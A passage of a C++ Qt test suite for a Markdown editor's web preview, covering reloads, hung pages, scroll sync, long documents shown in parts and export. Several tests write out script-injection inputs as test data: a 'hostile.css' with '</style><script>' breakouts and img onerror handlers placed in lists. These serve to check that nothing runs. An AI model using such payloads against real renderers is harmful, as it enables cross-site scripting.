                return true;  // fails below, before the machine runs out
            return !view->isLoadingHtml() && noteShown();
        }, 120000));
        EXPECT_LE(most, bound);
        EXPECT_GT(most, bound / 2);
        ASSERT_TRUE(noteShown());
    }

    // Nothing but the user brings the document back.
    const int before = loads;
    view->updatePreview(convert("# Later\n"));
    view->reloadPreview();
    window.resize(window.width() - 40, window.height());
    view->setBaseURL(QUrl::fromLocalFile(QDir::temp().filePath("elsewhere.md")));
    pause(3 * PreviewController::RetryFailedMilliseconds + 2 * SmartWebView::ResizeSettleMilliseconds);
    EXPECT_EQ(loads, before);
    EXPECT_TRUE(noteShown());
    view->refreshPreview();
    ASSERT_TRUE(waitUntil([&] {
        return evaluateText(*view, "document.querySelector('h1') ? document.querySelector('h1').textContent : ''") ==
               "Later";
    }));
    EXPECT_FALSE(view->controller().isPageEnded());
}

// A page whose own script stops answering (a loop without end): the change
// it does not answer is followed by a whole reload, which cannot load into
// a process so busy; the process is ended and the preview says so, until
// the user's refresh shows the newest text.
TEST_F(PreviewTest, APageThatStopsAnsweringIsEndedAndSaysSo) {
    view->setLoadTimeout(std::chrono::seconds(5));
    open("# Busy\n");
    view->runScript("for (;;) {}");  // never answers, and the page answers nothing after it
    view->updatePreview(convert("# Busy\n\nA change it will not answer.\n"));
    ASSERT_TRUE(waitUntil([&] { return view->controller().isPageEnded(); }, 120000));
    ASSERT_TRUE(waitUntil([&] {
        const QString t = evaluateText(*view, "document.body ? document.body.textContent : ''");
        return t.contains("The preview of this document was ended: its page stopped answering.");
    }));
    view->refreshPreview();
    ASSERT_TRUE(waitUntil([&] {
        return evaluateText(*view, "document.body ? document.body.textContent : ''").contains("will not answer");
    }));
}

// A page busy for longer than a script may take, building what it was given
// (here a script of its own takes memory step by step for 15 s, as the
// engine does laying out a paragraph of megabytes): the change sent
// meanwhile is waited for, and goes in once the page is done; the page is
// neither loaded again nor ended, however short the wait for a load.
TEST_F(PreviewTest, APageBusyBuildingWhatItWasGivenIsWaitedFor) {
    view->setLoadTimeout(std::chrono::seconds(2));
    open("# Busy\n");
    int loads = 0;
    QObject::connect(&view->controller(), &PreviewController::pageLoaded, [&] { loads++; });
    view->runScript("var kept = [], end = Date.now() + 15000;"
                    "while (Date.now() < end) {"
                    "  var step = Date.now() + 50; while (Date.now() < step) {}"
                    "  kept.push(new Float64Array(65536).fill(1));"
                    "}");
    view->updatePreview(convert("# Busy\n\nA change while it builds.\n"));
    ASSERT_TRUE(waitUntil(
        [&] {
            return view->controller().isPageEnded() ||
                   evaluate(*view, "document.body.textContent.indexOf('while it builds') >= 0").toBool();
        },
        120000));
    EXPECT_FALSE(view->controller().isPageEnded());
    EXPECT_EQ(loads, 0);
}

// Scrolling the editor to a heading brings the same heading to the middle of
// the preview, and scrolling the preview brings the editor along.
TEST_F(PreviewTest, ScrollsEditorAndPreviewTogether) {
    prefs.insert(preview::SyncPreviewLocationWhileTyping, false);
    prefs.insert(preview::AlwaysSyncScroll, true);
    SyncScroller scroller;
    scroller.linkToTextView(&surface);
    scroller.linkToWebView(view);
    QString text;
    for (int section = 1; section <= 40; section++) {
        text += QStringLiteral("## Section %1\n\n").arg(section);
        for (int i = 0; i < 1 + section % 4; i++)
            text += QStringLiteral("Words of section %1, paragraph %2, long enough to wrap in a narrow pane "
                                   "and to give the page some height of its own.\n\n")
                        .arg(section)
                        .arg(i);
        if (section % 5 == 0)
            text += "* one\n* two\n* three\n\n";
    }
    open(text);
    // The panes have their final sizes and the page its final layout: the
    // geometry is fetched once more.
    pause(SmartWebView::ResizeSettleMilliseconds + 100);
    int geometries = 0;
    QObject::connect(&view->controller(), &PreviewController::geometryChanged, [&] { geometries++; });
    view->updateContentBounds();
    ASSERT_TRUE(waitUntil([&] { return geometries > 0; }));
    QScrollBar *bar = editor->verticalScrollBar();
    auto wheelOver = [&](QWidget *widget) {
        scroller.setCursorPositionSource([widget] { return widget->mapToGlobal(widget->rect().center()); });
        QWidget *target = widget->focusProxy() ? widget->focusProxy() : widget;
        const QPointF at = target->rect().center();
        QWheelEvent wheel(at, target->mapToGlobal(at), QPoint(), QPoint(), Qt::NoButton, Qt::NoModifier,
                          Qt::NoScrollPhase, false);
        QApplication::sendEvent(target, &wheel);
    };
    auto headingOffsetInPreview = [&](int section) {
        return evaluate(*view, QStringLiteral("var h = document.getElementById('section%1').getBoundingClientRect();"
                                              "h.top + h.height / 2 - window.innerHeight / 2")
                                   .arg(section))
            .toDouble();
    };
    auto headingOffsetInEditor = [&](int section) {
        const QTextBlock block = editor->document()->find(QStringLiteral("## Section %1\n").arg(section).trimmed()).block();
        const QRectF line = editor->document()->documentLayout()->blockBoundingRect(block);
        return line.center().y() - bar->value() - editor->viewport()->height() / 2.0;
    };

    // The editor moves: its heading of section 27 in the middle.
    wheelOver(editor->viewport());
    const double startY = evaluate(*view, "window.scrollY").toDouble();
    bar->setValue(bar->value() + int(headingOffsetInEditor(27)));
    ASSERT_NEAR(headingOffsetInEditor(27), 0, 2);
    ASSERT_TRUE(waitUntil([&] { return evaluate(*view, "window.scrollY").toDouble() != startY; }));
    EXPECT_NEAR(headingOffsetInPreview(27), 0, 30);

    // The preview moves: its heading of section 9 in the middle.
    const int before = bar->value();
    wheelOver(view);
    evaluate(*view, QStringLiteral("window.scrollBy(0, %1)").arg(headingOffsetInPreview(9)));
    ASSERT_TRUE(waitUntil([&] { return bar->value() != before; }));
    pause(100);
    EXPECT_NEAR(headingOffsetInPreview(9), 0, 2);
    EXPECT_NEAR(headingOffsetInEditor(9), 0, 30);
}

// A document long enough to go to the page in parts: the page holds the
// parts around the caret, the text of a far part is in the page once it is
// scrolled to, a change there goes into its part, and the editor scrolled to
// a paragraph brings the preview to the same paragraph across parts never
// shown before.
TEST_F(PreviewTest, ShowsALongDocumentInPartsThatFollowTheView) {
    prefs.insert(preview::SyncPreviewLocationWhileTyping, false);
    prefs.insert(preview::AlwaysSyncScroll, true);
    SyncScroller scroller;
    scroller.linkToTextView(&surface);
    scroller.linkToWebView(view);
    QString text = paragraphs(40000);
    editor->setPlainText(text);
    view->updatePreview(convert(text));
    view->thawAndReload();
    ASSERT_TRUE(waitUntil([&] {
        return view->controller().pageParts() && !view->controller().isUpdating() && !view->isLoadingHtml() &&
               view->controller().geometry().has_value();
    }));
    const qsizetype count = view->controller().pageParts()->count();
    EXPECT_GT(count, 60);
    EXPECT_EQ(evaluate(*view, "document.body.children.length").toInt(), count);
    ASSERT_TRUE(
        waitUntil([&] { return evaluate(*view, "document.body.textContent.indexOf('Paragraph 0 ') >= 0").toBool(); }));
    const int filled = evaluate(*view, "document.querySelectorAll('.orvane-part:not(.orvane-rest)').length").toInt();
    EXPECT_GE(filled, 1);
    EXPECT_LT(filled, 12);
    auto inPage = [&](int n) {
        return evaluate(*view, QStringLiteral("document.body.textContent.indexOf('Paragraph %1 ') >= 0").arg(n))
            .toBool();
    };
    EXPECT_FALSE(inPage(30000));

    // Scrolled to the part that holds paragraph 30000, the page shows it.
    const preview::BodyParts &parts = *view->controller().pageParts();
    const qsizetype far = parts.partAt(parts.blocks().text().indexOf(u"Paragraph 30000 "));
    evaluate(*view, QStringLiteral("document.body.children[%1].scrollIntoView(true)").arg(far));
    ASSERT_TRUE(waitUntil([&] { return inPage(30000); }));

    // A change there goes into its part; the page keeps its parts.
    text.replace("Paragraph 30000 holds", "Paragraph 30000 now holds");
    view->updatePreview(convert(text));
    ASSERT_TRUE(waitUntil([&] {
        return evaluate(*view, "document.body.textContent.indexOf('Paragraph 30000 now holds') >= 0").toBool();
    }));
    EXPECT_EQ(evaluate(*view, "document.body.children.length").toInt(), count);

    // The editor scrolled to paragraph 12000: the preview follows to it.
    pause(SmartWebView::ResizeSettleMilliseconds + 100);
    ASSERT_TRUE(waitUntil([&] { return !view->controller().isUpdating(); }));
    view->updateContentBounds();
    ASSERT_TRUE(waitUntil([&] { return view->controller().geometry().has_value(); }));
    scroller.setCursorPositionSource(
        [&] { return editor->viewport()->mapToGlobal(editor->viewport()->rect().center()); });
    QWheelEvent wheel(QPointF(editor->viewport()->rect().center()),
                      editor->viewport()->mapToGlobal(QPointF(editor->viewport()->rect().center())), QPoint(), QPoint(),
                      Qt::NoButton, Qt::NoModifier, Qt::NoScrollPhase, false);
    QApplication::sendEvent(editor->viewport(), &wheel);
    const QTextBlock block = editor->document()->find(QStringLiteral("Paragraph 12000 holds")).block();
    QScrollBar *bar = editor->verticalScrollBar();
    const double before = evaluate(*view, "window.scrollY").toDouble();
    bar->setValue(int(editor->document()->documentLayout()->blockBoundingRect(block).center().y() -
                      editor->viewport()->height() / 2.0));
    ASSERT_TRUE(waitUntil([&] { return evaluate(*view, "window.scrollY").toDouble() != before; }));
    // The paragraph in the middle of the preview, once the parts there are in.
    auto middle = [&] {
        return evaluateText(*view, "var e = document.elementFromPoint(window.innerWidth / 2, window.innerHeight / 2);"
                                   "var p = e && e.closest ? e.closest('p') : null; p ? p.textContent : ''");
    };
    ASSERT_TRUE(waitUntil([&] { return middle().startsWith("Paragraph "); }));
    const int shown = middle().section(' ', 1, 1).toInt();
    EXPECT_NEAR(shown, 12000, 1500);
}

// A long line is one block, and so one part of the page whatever its length
// (a document of one line is one part of megabytes): keys typed at its
// start, middle and end reach the page as the text between what the part's
// old and new HTML share, into the same element, and the part then holds
// exactly what a fresh page would. A page whose part no longer holds the HTML
// the splice was made against is loaded again. (The line is 200 kB, in a
// document long enough to be shown in parts: a browser lays out a paragraph
// of megabytes for many seconds.)
TEST_F(PreviewTest, TypingInALongLineChangesItsPartInPlace) {
    prefs.insert(preview::SyncPreviewLocationWhileTyping, false);
    QString text;
    for (int i = 0; text.size() < 200000; i++)
        text += QStringLiteral("Sentence %1 holds a few words, *some emphasis* and \"quotes\" é🙂. ").arg(i);
    text += QStringLiteral("\n\n") + paragraphs(30000);
    editor->setPlainText(text);
    view->updatePreview(convert(text));
    view->thawAndReload();
    ASSERT_TRUE(settled(1));
    ASSERT_NE(view->controller().pageParts(), nullptr);
    ASSERT_GT(view->controller().pageParts()->count(), 1);
    // The line's part, a part of its own, and its element in the page.
    auto linePart = [&] {
        const preview::BodyParts &parts = *view->controller().pageParts();
        return parts.partAt(parts.blocks().text().indexOf(u"Sentence 0 "));
    };
    const qsizetype line = linePart();
    ASSERT_GT(view->controller().pageParts()->text(line).size(), preview::kSplicedPartChars);
    auto element = [&](const char *what) { return QStringLiteral("document.body.children[%1]%2").arg(line).arg(what); };
    // The program's scripts run in a world of their own, where what they
    // keep on the page's elements is seen.
    const quint32 world = QWebEngineScript::ApplicationWorld;
    evaluate(*view, element(".orvaneTag = 'kept'"), world);
    auto partIsFresh = [&] {
        const preview::BodyParts &parts = *view->controller().pageParts();
        evaluate(*view, QStringLiteral("window.expected = document.createElement('div');"
                                       "window.expected.innerHTML = %1; true")
                            .arg(platform::WebView::stringLiteral(parts.text(line))));
        return evaluate(*view, element(".innerHTML === window.expected.innerHTML")).toBool();
    };
    int loads = 0;
    QObject::connect(&view->controller(), &PreviewController::pageLoaded, [&] { loads++; });

    int refreshed = 1;
    for (const QString typed : {"Typed first. ", " typed in the middle ", " Typed last."}) {
        const qsizetype end = text.indexOf(u"\n\n");
        text.insert(typed.startsWith(u"Typed first") ? 0 : typed.contains(u"middle") ? end / 2 : end, typed);
        view->updatePreview(convert(text));
        ASSERT_TRUE(settled(++refreshed));
        ASSERT_EQ(linePart(), line);
        EXPECT_EQ(evaluateText(*view, element(".orvaneTag"), world), "kept") << typed.toStdString();
        EXPECT_TRUE(partIsFresh()) << typed.toStdString();
    }
    EXPECT_EQ(loads, 0);

    // The part's HTML changed under the preview: the change cannot be spliced
    // in, so the page is loaded again with the text as it now is.
    evaluate(*view, element(".orvaneHtml += ' '"), world);
    text.insert(text.indexOf(u"\n\n") / 3, QStringLiteral(" after the page changed "));
    view->updatePreview(convert(text));
    ASSERT_TRUE(waitUntil([&] { return loads == 1; }));
    ASSERT_TRUE(waitUntil([&] {
        return evaluate(*view, "document.body.textContent.indexOf('after the page changed') >= 0").toBool();
    }));
    EXPECT_TRUE(partIsFresh());
}

// A line of 3 MB of emoji (families and professions joined by zero-width
// joiners, skin tones, flags, letters with combining accents, no space), as
// pasted into a document whose page is shown: the engine lays such a
// paragraph out for seconds (for many more without a colour emoji font).
// The change goes in as a change, the page shows the line's text once laid
// out, and it is neither loaded again nor ended as not answering.
TEST_F(PreviewTest, ALongLineOfEmojiIsShownWithoutThePageLoadedAgainOrEnded) {
    prefs.insert(preview::SyncPreviewLocationWhileTyping, true);
    open("# Emoji\n");
    const QString pieces[] = {
        QStringLiteral("👨‍👩‍👧‍👦"), QStringLiteral("👩🏽‍💻"), QStringLiteral("👍🏿"),
        QStringLiteral("🇫🇷"),         QStringLiteral("e\u0301"),   QStringLiteral("👨‍🔬"),
        QStringLiteral("🇯🇵"),         QStringLiteral("o\u0308\u0302"), QStringLiteral("👋🏼"),
        QStringLiteral("👩‍👧"),       QStringLiteral("👨🏻‍🚒"),   QStringLiteral("🙌🏾"),
    };
    QString line;
    for (unsigned i = 0; line.size() < 1500000; i++)
        line += pieces[(i * 7 + i / 13) % 12];
    int loads = 0;
    QObject::connect(&view->controller(), &PreviewController::pageLoaded, [&] { loads++; });
    // With the engine bridge's scroll anchor after the line, as for a caret
    // in it: the change then puts the anchor where the caret is.
    QString html = convert(QStringLiteral("# Emoji\n\n") + line + QStringLiteral("\n"));
    html.insert(html.lastIndexOf(QStringLiteral("</p>")) + 4, Anchor);
    view->updatePreview(html);
    const QString stretch = line.mid(line.size() / 2, 300);
    ASSERT_TRUE(waitUntil(
        [&] {
            return view->controller().isPageEnded() ||
                   evaluate(*view, QStringLiteral("document.body.innerText.indexOf(%1) >= 0")
                                       .arg(platform::WebView::stringLiteral(stretch)))
                       .toBool();
        },
        300000));
    EXPECT_FALSE(view->controller().isPageEnded());
    ASSERT_TRUE(waitUntil([&] { return !view->controller().isUpdating() && !view->isLoadingHtml(); }, 300000));
    EXPECT_FALSE(view->controller().isPageEnded());
    EXPECT_EQ(loads, 0);
    EXPECT_EQ(view->controller().retryDelay(), 0);
}

// A part that fails in the page as it is filled (here its element was
// swapped for one that no script can fill): the part scrolled to would stay
// empty, so the preview loads the whole page again by itself, and the part
// shows once scrolled to.
TEST_F(PreviewTest, APartThatFailsToFillIsShownAfterThePageIsLoadedAgainByItself) {
    prefs.insert(preview::SyncPreviewLocationWhileTyping, false);
    QString text = paragraphs(40000);
    editor->setPlainText(text);
    view->updatePreview(convert(text));
    view->thawAndReload();
    auto partsShown = [&] {
        return view->controller().pageParts() && !view->controller().isUpdating() && !view->isLoadingHtml();
    };
    ASSERT_TRUE(waitUntil(partsShown));
    const std::shared_ptr<const preview::BodyParts> parts = view->controller().pageParts();
    const qsizetype far = parts->partAt(parts->blocks().text().indexOf(u"Paragraph 30000 "));
    int loads = 0;
    QObject::connect(&view->controller(), &PreviewController::pageLoaded, [&] { loads++; });
    evaluate(*view, QStringLiteral("var old = document.body.children[%1];"
                                   "var e = document.createElementNS('urn:orvane-test', 'div');"
                                   "e.setAttribute('class', old.getAttribute('class'));"
                                   "document.body.replaceChild(e, old);"
                                   "e.scrollIntoView(true);")
                        .arg(far));
    ASSERT_TRUE(waitUntil([&] { return loads == 1 && partsShown(); }));
    EXPECT_EQ(evaluate(*view, "document.body.querySelectorAll('div.orvane-part').length").toInt(), parts->count());
    evaluate(*view, QStringLiteral("document.body.children[%1].scrollIntoView(true)").arg(far));
    ASSERT_TRUE(waitUntil(
        [&] { return evaluate(*view, "document.body.textContent.indexOf('Paragraph 30000 ') >= 0").toBool(); }));
}

// The sample document as a reader sees it, kept under the build folder's
// tests/artifacts: style sheet, table, math set by MathJax and code coloured
// by highlight.js, both from the local packages, after a change typed in.
TEST_F(PreviewTest, RendersTheSampleDocument) {
    StepWatch watch;
    prefs.insert(preview::AddMathJax, true);
    prefs.insert(preview::AddSyntaxHighlighting, true);
    window.resize(1200, 1100);
    const QString data = QString::fromUtf8(ORVANE_TEST_DATA) + "/preview/";
    view->controller().applyCSSFromPath(data + "look.css");
    const QString text = readFile(data + "sample.md");
    ASSERT_FALSE(text.isEmpty());
    // The caret at the start: the engine puts its anchor after the heading
    // there, and the preview puts the heading at the caret's height.
    prefs.insert(preview::SyncPreviewLocationWhileTyping, true);
    auto withAnchor = [](QString html) {
        return html.replace("Tidal Pools</h1>", "Tidal Pools" + Anchor + "</h1>");
    };
    editor->setPlainText(text);
    view->updatePreview(withAnchor(convert(text)));
    watch.step("first load");
    view->thawAndReload();
    ASSERT_TRUE(settled(1));
    auto typeset = [&] {
        return evaluate(*view, "document.querySelectorAll('.MathJax_CHTML').length").toInt() >= 3 &&
               evaluate(*view, "document.querySelectorAll('pre code.hljs span').length").toInt() > 0;
    };
    watch.step("typesetting");
    ASSERT_TRUE(waitUntil(typeset));

    // A change to the growth paragraph: the new block is set again.
    QString edited = text;
    edited.replace("estimated from two visits:", "estimated from two visits $t_1 < t_2$:");
    watch.step("the change");
    view->updatePreview(withAnchor(convert(edited)));
    ASSERT_TRUE(settled(2));
    ASSERT_TRUE(waitUntil([&] {
        return evaluate(*view, "document.querySelectorAll('.MathJax_CHTML').length").toInt() >= 4;
    }));
    // Nothing more to set, and no progress message over the page.
    ASSERT_TRUE(waitUntil([&] {
        return evaluateText(*view, "var m = document.getElementById('MathJax_Message');"
                                   "String(orvaneTypesetter.waiting() === 0 && (!m || m.style.display === 'none'))") ==
               "true";
    }));
    pause(200);

    watch.step("the screenshot");
    const QImage shot = window.grab().toImage();
    watch.step("saving");
    const QString folder = QString::fromUtf8(ORVANE_ARTIFACT_DIR);
    QDir().mkpath(folder);
    ASSERT_TRUE(shot.save(folder + "/preview-sample.png"));
    // Something was drawn in the preview's half: not one flat colour.
    const QImage half = shot.copy(view->geometry());
    QSet<QRgb> colours;
    for (int y = 0; y < half.height(); y += 7)
        for (int x = 0; x < half.width(); x += 7)
            colours.insert(half.pixel(x, y));
    EXPECT_GT(colours.size(), 20);
}

// A style sheet is style only: a sheet whose text would close its element
// and go on as a script (at its top level, in a string or in a comment) runs
// nothing in a document of no script of its own, and its rules, the text of
// its strings too, apply as written.
TEST_F(PreviewTest, AStyleSheetRunsNoScript) {
    QTemporaryDir folder;
    const QString sheet = folder.filePath("hostile.css");
    QFile file(sheet);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write("p { color: rgb(10, 20, 30); }\n"
               "p::after { content: \"</style><script>window.ran = 'string'</script>\"; }\n"
               "/* </STYLE><script>window.ran = 'comment'; document.title = 'comment';</script> */\n"
               "h1 { color: rgb(40, 50, 60); }\n"
               "</style ><script>window.ran = 'sheet'; document.title = 'sheet';</script><style>\n");
    file.close();
    view->controller().applyCSSFromPath(sheet);
    open("# Notes\n\nA paragraph.\n");
    EXPECT_EQ(evaluateText(*view, "typeof window.ran"), "undefined");
    EXPECT_EQ(evaluateText(*view, "document.title"), "");
    EXPECT_EQ(evaluate(*view, "document.scripts.length").toInt(), 0);
    EXPECT_EQ(evaluateText(*view, "getComputedStyle(document.querySelector('p')).color"), "rgb(10, 20, 30)");
    EXPECT_EQ(evaluateText(*view, "getComputedStyle(document.querySelector('h1')).color"), "rgb(40, 50, 60)");
    EXPECT_EQ(evaluateText(*view, "getComputedStyle(document.querySelector('p'), '::after').content"),
              "\"</style><script>window.ran = 'string'</script>\"");
}

// The same sheet in an exported HTML document, which a browser shows later:
// style there too, and nothing more.
TEST_F(PreviewTest, AStyleSheetInAnExportRunsNoScript) {
    QTemporaryDir folder;
    FakeEngineEditor source;
    source.cssPath = folder.filePath("hostile.css");
    QFile file(source.cssPath);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write("p { color: rgb(10, 20, 30); }\n"
               "p::after { content: \"</style><script>window.ran = 'string'</script>\"; }\n"
               "</style><script>window.ran = 'sheet';</script><style>\n");
    file.close();
    prefs.insert("exportPreviewCSS", true);
    source.setText("Title: Notes\n\nA paragraph.\n");
    TZREngine bridge;
    bridge.setEditor(&source);
    const QString exported = QString::fromUtf8(bridge.exportToFormat(0));
    ASSERT_TRUE(exported.contains("A paragraph.")) << exported.toStdString();
    platform::WebView page;
    page.resize(600, 400);
    page.show();
    ASSERT_EQ(load(page, exported, QUrl::fromLocalFile(folder.filePath("notes.html"))), true);
    EXPECT_EQ(evaluateText(page, "typeof window.ran"), "undefined");
    EXPECT_EQ(evaluate(page, "document.scripts.length").toInt(), 0);
    EXPECT_EQ(evaluateText(page, "document.title"), "Notes");
    EXPECT_EQ(evaluateText(page, "getComputedStyle(document.querySelector('p')).color"), "rgb(10, 20, 30)");
    EXPECT_EQ(evaluateText(page, "getComputedStyle(document.querySelector('p'), '::after').content"),
              "\"</style><script>window.ran = 'string'</script>\"");
}

// A document of every shape the writer nests, past the size that goes to the
// page in parts: once every part is filled, the page holds what the same
// HTML loaded whole holds, node for node: a table's rows in its body, a
// quote's paragraphs in the quote, the lists inside a list's items, the
// definitions in their list, HTML blocks, math, code with blank lines in it
// and the notes. A div the document leaves open holds what follows it in
// its part only; the page holds the same elements in the same order.
TEST_F(PreviewTest, APageInPartsHoldsWhatThePageWholeHolds) {
    bearMegabytes();
    prefs.insert(preview::SyncPreviewLocationWhileTyping, false);
    const QString text = shaped::allShapes();
    const PreviewHtml published = renderedForPreview(text);
    ASSERT_GT(preview::bodyRange(published.html)->length, preview::kPartedBodyChars);
    editor->setPlainText(text);
    view->updatePreview(published);
    view->thawAndReload();
    ASSERT_TRUE(settled(1));
    ASSERT_NE(view->controller().pageParts(), nullptr);
    EXPECT_GT(view->controller().pageParts()->count(), 20);
    const QStringList parts = filledPageShapes(false), whole = wholePageShapes(published.html, false);
    EXPECT_EQ(parts.size(), whole.size());
    EXPECT_TRUE(parts == whole) << firstDifference(parts, whole);
    EXPECT_EQ(evaluate(*view, "document.querySelectorAll('table > tbody > tr').length").toInt(), 3000);
    EXPECT_EQ(evaluate(*view, "document.querySelectorAll('blockquote > p').length").toInt(), 3000);

    // An element left open: everything after it is in it on the page whole,
    // in the rest of its part in parts.
    const qsizetype middle = text.indexOf(u"## Definitions");
    const PreviewHtml open =
        renderedForPreview(text.left(middle) + QStringLiteral("<div class=\"open\">\n\n") + text.mid(middle));
    view->updatePreview(open);
    ASSERT_TRUE(settled(2));
    ASSERT_NE(view->controller().pageParts(), nullptr);
    EXPECT_GT(view->controller().pageParts()->count(), 20);
    const QStringList flatParts = filledPageShapes(true), flatWhole = wholePageShapes(open.html, true);
    EXPECT_TRUE(flatParts == flatWhole) << firstDifference(flatParts, flatWhole);
    EXPECT_EQ(evaluate(*view, "document.querySelectorAll('div.open').length").toInt(), 1);
}

// A list of megabytes whose third item leaves a <code> tag open: the page
// nests the rest of the list otherwise than the text's tags say, so that the
// items a key lies among are not where the text puts them. Keys there change
// only what differs: the list's first and last items keep their nodes (the
// whole list built again took the page seconds for each key at 5 MB), the
// item typed into keeps its node too, and the page holds the keys. The
// pictures of the notes are asked for once each, as the page was first
// given them: what a key's new HTML is read into asks for none.
TEST_F(PreviewTest, KeysInAListThatLeavesATagOpenKeepTheNodesTheyDoNotChange) {
    bearMegabytes();
    // Long enough for a page in parts, the list one part of its own.
    QString text = QString::fromUtf8(large::list("list.md", 2 << 20));
    const QString picture =
        QStringLiteral(" <img src=\"data:,\" onerror=\"window.orvaneAsked = (window.orvaneAsked || 0) + 1\">");
    int pictures = 0;
    for (int n = 1000; n <= 15000; n += 1000) {
        const QString before = QStringLiteral("- Note %1 of list.md:").arg(n);
        const qsizetype at = text.indexOf(before);
        ASSERT_GE(at, 0);
        text.insert(at + before.size(), picture);
        pictures++;
    }
    const QString note = QStringLiteral("Note 5001 of list.md");
    editor->setPlainText(text);
    view->updatePreview(renderedForPreview(text, 0));
    view->thawAndReload();
    ASSERT_TRUE(waitUntil([&] { return !view->controller().isUpdating() && !view->isLoadingHtml(); }));
    ASSERT_NE(view->controller().pageParts(), nullptr);
    // Marks that the page's own reading of HTML knows nothing of.
    const char *mark = R"js((function () {
  var items = document.body.getElementsByTagName('li'), typed = null;
  for (var i = 0; i < items.length && !typed; i++)
    if (items[i].firstChild && items[i].textContent.indexOf(%1) >= 0 &&
        items[i].getElementsByTagName('li').length === 0) typed = items[i];
  if (!typed || items.length < 3) return false;
  items[0].orvaneKept = items[items.length - 1].orvaneKept = typed.orvaneKept = true;
  window.orvaneTyped = typed;
  return true;
})())js";
    ASSERT_TRUE(evaluate(*view, QString::fromLatin1(mark).arg(platform::WebView::stringLiteral(note))).toBool());
    // The page does nest the list otherwise than the text says.
    ASSERT_GT(evaluate(*view, "document.body.querySelectorAll('code li').length").toInt(), 0);
    auto asked = [&] { return picturesHandled() ? evaluate(*view, "window.orvaneAsked || 0").toInt() : -1; };
    ASSERT_TRUE(waitUntil([&] { return asked() == pictures; }));
    qsizetype at = text.indexOf(note) + note.size();
    for (const QString &key : {QStringLiteral(" z"), QStringLiteral("an"), QStringLiteral("zib")}) {
        text.insert(at, key);
        at += key.size();
        view->updatePreview(renderedForPreview(text, at));
        ASSERT_TRUE(waitUntil([&] { return !view->controller().isUpdating(); }));
    }
    EXPECT_TRUE(evaluate(*view, "document.body.textContent.indexOf('Note 5001 of list.md zanzib') >= 0").toBool());
    const QVariant kept = evaluate(*view, R"js((function () {
  var items = document.body.getElementsByTagName('li');
  function kept(e) { return e.orvaneKept && e.isConnected ? 'kept' : 'new'; }
  return [kept(items[0]), kept(items[items.length - 1]), kept(window.orvaneTyped)].join(' ');
})())js");
    // The first item, the last, the one typed into.
    EXPECT_EQ(kept.toString(), QStringLiteral("kept kept kept"));
    EXPECT_EQ(asked(), pictures);
}

// Random edits at random times inside long blocks: lists whose third item
// leaves a tag of raw HTML open, one list for each kind of tag that a
// browser reads otherwise than its text says (an element the rest of the
// list nests in, a table, a select, a template, foreign content, text read
// raw to the end of the part, a comment), a numbered list of references, a
// quote and a table, each a part of its own, edited in turn: a key in each,
// then whatever is typed (tags left open or closed among it) or taken out.
// Each edit is sent as the bridge sends it; once they are in, the page
// holds node for node what its parts hold when read afresh, and ran the
// handlers of the same pictures: one in a <noscript> is text in a page that
// runs scripts, and is never asked for.
TEST_F(PreviewTest, RandomEditsInsideLongBlocksLeaveThePageAsAFreshOne) {
    bearMegabytes();
    prefs.insert(preview::SyncPreviewLocationWhileTyping, true);
    std::mt19937 random(29);
    const QByteArray opened[] = {
        "the <code> element",
        "<noscript> and a picture <img src=\"data:,\" onerror=\"document.body.dataset.ran = 1\">",
        "<a href=\"#works\">",
        "<b>",
        "<table>",
        "<select>",
        "<template>",
        "<svg>",
        "<math>",
        "<textarea>",
        "<plaintext>",
        "<xmp>",
    };
    // Each list a little longer than a part that is spliced.
    const qsizetype listBytes = 56 << 10;
    QString text;
    for (size_t i = 0; i < std::size(opened); i++) {
        const QByteArray name = "list" + QByteArray::number(qulonglong(i)) + ".md";
        QByteArray list = large::list(name, listBytes, "- Note 3 opens " + opened[i] + " and leaves it open.\n");
        // Where each note after the open <a> holds a link, the page closes
        // that element at each and moves the note out of it: the list's
        // children are then as many as the notes, each in another place.
        if (opened[i].startsWith("<a "))
            list.replace("`code`", "[a link](#works)");
        text += QString::fromUtf8(list) + u'\n';
    }
    // A comment left open: a box of raw HTML in a note, whose text the
    // writer passes on as it is.
    text += QString::fromUtf8(large::list("comment.md", listBytes,
                                          "- Note 3 holds a box\n\n    <div>\n    <!-- a comment left open\n"
                                          "    </div>\n\n"));
    text += QStringLiteral("\n## Quote\n\n") + shaped::quote(1500) + QStringLiteral("## Table\n\n") +
            shaped::table(800) + QStringLiteral("## Works\n\n") +
            QString::fromUtf8(large::bibliography("works.md", 700 << 10));
    const QString typed[] = {"x",    " ",     "\n", "\n- ", "<code>", "</code>", "<b>", "*", "| ", "> ", "\n\n", "1. ",
                             "<a href=\"#x\">", "<table>", "<svg>", "<noscript>"};
    editor->setPlainText(text);
    view->updatePreview(renderedForPreview(text, 0));
    view->thawAndReload();
    ASSERT_TRUE(waitUntil([&] { return !view->controller().isUpdating() && !view->isLoadingHtml(); }));
    ASSERT_NE(view->controller().pageParts(), nullptr);
    // The places of the long blocks the edits fall in.
    std::vector<std::array<qsizetype, 2>> blocks;
    for (qsizetype at = text.indexOf(u"- Note 1 of"); at >= 0; at = text.indexOf(u"- Note 1 of", at + 1))
        blocks.push_back({at, text.indexOf(u"After the list.", at)});
    ASSERT_EQ(blocks.size(), std::size(opened) + 1);
    blocks.push_back({text.indexOf(u"> Quote line"), text.indexOf(u"## Table")});
    blocks.push_back({text.indexOf(u"| Row 0"), text.indexOf(u"## Works")});
    blocks.push_back({text.indexOf(u"1. Author 1,"), text.size() - 30});
    PreviewHtml last;
    // Each block edited in turn, `rounds` times: by `key` alone, or by
    // whatever is typed or taken out.
    auto edit = [&](int rounds, const QString &key) {
        for (size_t round = 0; round < rounds * blocks.size(); round++) {
            const auto &block = blocks[round % blocks.size()];
            // Edits only add text before the next blocks, which stay in place
            // but for their start; they are found again after each edit.
            const qsizetype at = block[0] + qsizetype(random() % quint32(block[1] - block[0]));
            const qsizetype removed = key.isEmpty() && random() % 4 == 0 ? qsizetype(random() % 30) : 0;
            text.remove(at, removed);
            const QString insert = removed ? QString() : !key.isEmpty() ? key : typed[random() % std::size(typed)];
            text.insert(at, insert);
            for (auto &b : blocks)
                for (qsizetype &end : b)
                    if (end > at)
                        end = std::max(at, end + insert.size() - removed);
            last = renderedForPreview(text, at + insert.size());
            view->updatePreview(last);
            if (!goOnAtARandomMoment(random, 400))
                return false;
        }
        return waitUntil([&] { return !view->controller().isUpdating() && !view->isLoadingHtml(); }) &&
               view->controller().baseSourceHTML() == last.html;
    };
    auto ran = [&] {
